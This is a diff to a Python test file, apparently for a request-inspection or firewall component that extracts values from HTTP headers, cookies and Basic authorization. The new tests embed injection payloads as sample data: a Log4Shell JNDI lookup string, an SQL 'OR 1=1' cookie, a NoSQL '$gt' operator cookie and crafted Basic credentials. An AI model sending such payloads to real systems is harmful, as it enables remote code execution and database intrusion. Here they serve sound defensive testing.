@@ -118,8 +118,8 @@ def test_a_referer_that_is_no_url_is_one_text() -> None:
     assert texts(of_field(b"referer", b"<script>"), Position.HEADER) == ["<script>"]
 
 
-def test_fields_that_scripts_cannot_write_are_left_alone() -> None:
-    fields = [(b"Sec-Fetch-Site", b"'"), (b"Host", b"a'"), (b"X-Note", b"it's"), (b"Cookie", b"a=it's")]
+def test_fields_that_the_wire_layer_has_a_grammar_for_are_left_alone() -> None:
+    fields = [(b"Host", b"a'"), (b"X-Note", b"it's"), (b"Cookie", b"a=it's")]
     assert of_head(b"/", "/", fields) == [
         Value(Position.HEADER, "x-note", "it's"),
         Value(Position.COOKIE, "a", "it's"),
@@ -142,3 +142,23 @@ def test_any_target_and_cookie_can_be_read(query: bytes, cookie: bytes) -> None:
         b"/a?" + query, "/a", [(b"cookie", cookie), (b"x-a", query), (b"referer", b"http://a/?" + query)]
     ):
         assert value.text.encode("utf-8", "surrogateescape") is not None
+
+
+@pytest.mark.parametrize("name", [b"sec-ch-ua", b"sec-websocket-protocol", b"sec-x", b"accept-encoding"])
+def test_fields_that_browsers_write_are_read_since_anybody_can_send_them(name: bytes) -> None:
+    values = of_head(b"/a", "/a", [(name, b"${jndi:ldap://x/a}")])
+    assert texts(values, Position.HEADER) == ["${jndi:ldap://x/a}"]
+
+
+def test_an_unusual_name_of_a_cookie_is_read_with_its_value() -> None:
+    assert "' OR 1=1 --" in texts(of_cookies(b"' OR 1=1 --"), Position.COOKIE)
+
+
+@pytest.mark.parametrize("cookie", [b'a=j:{"$gt":""}', b'a=j%3A{"$gt":""}'])
+def test_a_cookie_that_is_json_to_express_is_read_as_that(cookie: bytes) -> None:
+    assert '{"$gt":""}' in texts(of_cookies(cookie), Position.COOKIE)
+
+
+@pytest.mark.parametrize("written", [b" YSdiOmM=", b"YSdiOmM", b"YS.diOm\xffM=", b"YSdiOmM=="])
+def test_basic_credentials_that_only_careless_readers_take_are_decoded(written: bytes) -> None:
+    assert "a'b:c" in texts(of_field(b"authorization", b"Basic " + written), Position.HEADER)
